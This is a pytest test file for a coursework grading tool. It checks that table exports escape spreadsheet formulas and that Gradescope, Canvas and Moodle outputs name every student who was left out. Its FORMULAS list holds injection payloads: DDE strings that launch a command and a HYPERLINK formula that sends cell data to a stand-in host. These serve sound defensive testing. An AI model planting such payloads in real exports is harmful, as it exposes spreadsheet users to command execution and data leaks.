"""Exports: no cell of a table is a formula, and every student who is left out is named."""

import json
import re
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from outgoing import HOSTILE, NAMES, a_result, acts, cells, mark, write_result
from softlookup_coursework.common.marks import Remark
from softlookup_coursework.common.verdicts import Verdict
from softlookup_coursework.exports import FORMATS, WAITS, Unfit, returned, write
from softlookup_coursework.exports.table import escape_formula, read, save

SCHEMA = Path(__file__).parent / "gradescope_results.schema.json"
# What a spreadsheet would treat as a formula, or as a cell of its own.
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1x",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://afar.invalid?"&A1,"x")', "a;=1+1", "a;  @b", "a\n=1",
    "a,=1+1", "-2+3+cmd|' /C calc'!D2", "=@A1", "+491234x", "\u200b=1", "\ufeff@a", "a\u2028=1",
    "\x00=1", "\u200f\u00ad+1x", "\ufe66cmd", "a\x0b=1", "; \ufeff=1",
]  # fmt: skip
# ---------- tables ----------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert not acts(escape_formula(text))
    assert not acts(re.sub(r"[\x00\u00ad\u200b\u200f\ufeff]", "", escape_formula(text)))
    assert escape_formula(text) != text
    assert escape_formula(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["", "Ada", "a=b", "12", "-3", "+4.5", "0,5", "x-y", "a, -3"])
def test_other_text_is_unchanged(text):
    assert escape_formula(text) == text


@pytest.mark.parametrize("text", ["\n" * 200_000, "; \u200b" * 60_000, "\u200b" * 200_000])
def test_a_long_cell_costs_no_more_than_its_length(text):
    began = time.process_time()
    escape_formula(text + "x")
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    ("value", "text"), [(-3.0, "-3"), (2.5, "2.5"), (1 / 3, "0.33"), (0, "0"), (None, "")]
)  # fmt: skip
def test_numbers_stay_numbers(value, text):
    assert escape_formula(value) == text


def test_a_table_round_trips(tmp_path):
    rows = [["a", "b"], ['x"y', "1,2"], ["two\nlines", "🧑‍🔬"], ["عمر", ""]]
    for separator in (",", ";", "\t"):
        path = save(tmp_path / "t.csv", rows, separator, mark=True)
        table = read(path)
        assert [table.header, *table.rows] == rows
        assert (table.separator, table.mark) == (separator, True)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_cell_may_be_as_long_as_a_text_that_was_handed_in_online(tmp_path):
    path = tmp_path / "t.csv"
    for rows in ([["a", "b"], ["1", "x" * 150_000]], [["a", "x" * 150_000], ["1", "2"]]):
        path.write_text("\n".join(",".join(row) for row in rows))
        assert read(path).rows == rows[1:]
    path.write_bytes(b"a;b\r1;2\r")
    assert (read(path).separator, read(path).rows) == (";", [["1", "2"]])


@pytest.mark.parametrize(
    ("content", "says"),
    [(b"", "empty"), (b"\xff\xfe\x00", "UTF-8"), (b"a,\xe9", "UTF-8"), (b"a,b\n1,2,3\n", "cells"),
     (b'a,b\n"x', "not a table"), (None, "cannot be read")],
)  # fmt: skip
def test_a_file_that_is_not_a_table_is_refused_with_what_to_do(tmp_path, content, says):
    path = tmp_path / "t.csv"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(Unfit, match=says):
        read(path)


def test_utf_16_is_read(tmp_path):
    (tmp_path / "t.csv").write_text("a\tb\n1\tä\n", "utf-16")
    assert read(tmp_path / "t.csv").rows == [["1", "ä"]]


def test_a_failed_write_leaves_the_old_file(tmp_path):
    path = save(tmp_path / "t.csv", [["old"]])

    def rows():
        yield ["new"]
        raise RuntimeError("planted")

    with pytest.raises(RuntimeError, match="planted"):
        save(path, rows())
    assert cells(path) == [["old"]]
    assert [one.name for one in tmp_path.iterdir()] == ["t.csv"]


# ---------- Gradescope ----------


def test_the_file_for_gradescope_matches_its_documentation(handed_in):
    result = a_result(Verdict.TIMED_OUT, "\n".join(HOSTILE[:-1]), message="<b>wrong</b>")
    write_result(handed_in, "positions", "101", result)
    remarks = (Remark("essay", 4.5, "Well *put*."),)
    marks = [mark("101", remarks=remarks), mark("102", 7, None)]
    report = write("gradescope", handed_in, "positions", marks)
    files = sorted(report.path.glob("*/results.json"))
    assert [file.parent.name for file in files] == ["101", "102"]
    check = [sys.executable, "-m", "check_jsonschema", "--schemafile", str(SCHEMA)]
    checked = subprocess.run([*check, *files], capture_output=True, text=True)
    assert checked.returncode == 0, checked.stdout
    stored = json.loads(files[0].read_text())
    assert stored["score"] == 11.5 == sum(test["score"] for test in stored["tests"])
    assert sum(test["max_score"] for test in stored["tests"]) == 18
    passed, failed, by_hand = stored["tests"]
    assert (passed["status"], passed["visibility"]) == ("passed", "visible")
    assert (failed["status"], failed["visibility"]) == ("failed", "after_published")
    assert (failed["output"], failed["output_format"]) == ("<b>wrong</b>", "text")
    assert (by_hand["score"], by_hand["output"]) == (4.5, "Well *put*.")
    assert {stored[key] for key in stored if key.endswith("_format")} == {"text"}
    assert "\x1b" not in stored["output"]
    assert [one.student for one in report.left if "waits" in one.why] == ["102"]


def test_a_field_unknown_to_gradescope_would_be_found(tmp_path):
    path = tmp_path / "results.json"
    path.write_text('{"score": 1, "tests": [{"visible": true}]}')
    check = [sys.executable, "-m", "check_jsonschema", "--schemafile", str(SCHEMA), str(path)]
    assert subprocess.run(check, capture_output=True).returncode == 1


# ---------- a plain table, and what all formats share ----------


def test_the_plain_table_has_a_column_for_each_cell_and_test(handed_in):
    marks = [mark("101", remarks=(Remark("essay", 4.5),)), mark("102", 7, None),
             *(mark("ada", first_name=a, last_name=b) for a, b in NAMES)]  # fmt: skip
    report = write("plain", handed_in, "positions", marks)
    assert report.path.read_bytes().startswith(b"\xef\xbb\xbf")
    header, first, second, *others = cells(report.path)
    assert header[-4:] == ["rows", "rows: visible.rows_sum_to_one", "rows: hidden.slopes", "essay"]
    final, waits = (dict(zip(header, row, strict=True)) for row in (first, second))
    assert (final["earned"], final["by hand"], final["essay"]) == ("11.5", "4.5", "4.5")
    assert (final["rows"], final["rows: hidden.slopes"]) == ("7", "0")
    assert (waits["by hand"], waits["essay"], waits["earned"]) == ("", "", "")
    assert waits["by tests"] == "7"
    assert [one.student for one in report.left if one.why == WAITS] == ["102"]
    assert not any(acts(cell) for row in others for cell in row if cell != "-")
    assert [row[header.index("name")] for row in (first, second)] == ["", ""]
    assert report.written == 8
    report = write("plain", handed_in, "positions", marks, provisional=True)
    header, _, waits, *_ = cells(report.path)
    assert waits[header.index("earned")] == "7"
    assert report.written == 9
    assert not [one for one in report.left if one.why == WAITS]


@pytest.mark.parametrize("form", FORMATS)
def test_students_who_handed_in_and_have_no_mark_are_named(handed_in, form):
    report = write(form, handed_in, "positions", [mark("101")])
    missing = {one.student for one in report.left if "no mark in the gradebook" in one.why}
    assert missing == {"102", "ada", "late"}


def test_a_mark_that_a_person_has_to_look_at_is_named(handed_in):
    result = a_result(Verdict.NEEDS_A_HUMAN, "no cell answers b")
    write_result(handed_in, "positions", "101", result)
    look = mark("101", verdict=result.verdict, why=result.why)
    report = write("canvas", handed_in, "positions", [look])
    assert "no cell answers b" in next(one.why for one in report.left if one.student == "101")


def test_who_gets_a_zero_for_what_could_not_be_read_is_named(handed_in):
    marks = [mark("101"), mark("102", 0, 0, verdict=Verdict.UNREADABLE, why="no notebook")]
    report = write("plain", handed_in, "positions", marks)
    named = [(one.student, one.lost) for one in report.left if "its zero" in one.why]
    assert named == [("102", False)]
    assert report.written == 2


def test_an_unknown_form_is_refused(handed_in):
    with pytest.raises(Unfit, match="expected one of canvas"):
        write("excel", handed_in, "positions", [])


# ---------- the pages, for Moodle ----------


def test_the_pages_are_packed_in_moodles_layout(handed_in):
    for student in ("101", "102", "ada"):
        page = handed_in / "feedback" / student / "positions" / "positions.html"
        page.parent.mkdir(parents=True)
        page.write_text(f"for {student}")
    report = returned.pack(handed_in, "positions")
    with zipfile.ZipFile(report.path) as archive:
        assert archive.namelist() == [
            f"Participant_{n}_assignsubmission_file_/positions.html" for n in (101, 102)
        ]
        assert archive.read(archive.namelist()[1]) == b"for 102"
    assert report.written == 2
    assert [one.student for one in report.left] == ["ada"]
    # Moodle cuts a folder's name at its underscores: name, number, kind.
    name, number, kind, plugin, rest = archive.namelist()[0].split("/")[0].split("_", 4)
    assert (name, number, kind, plugin, rest) == (
        "Participant",
        "101",
        "assignsubmission",
        "file",
        "",
    )
    first = report.path.read_bytes()
    assert returned.pack(handed_in, "positions").path.read_bytes() == first
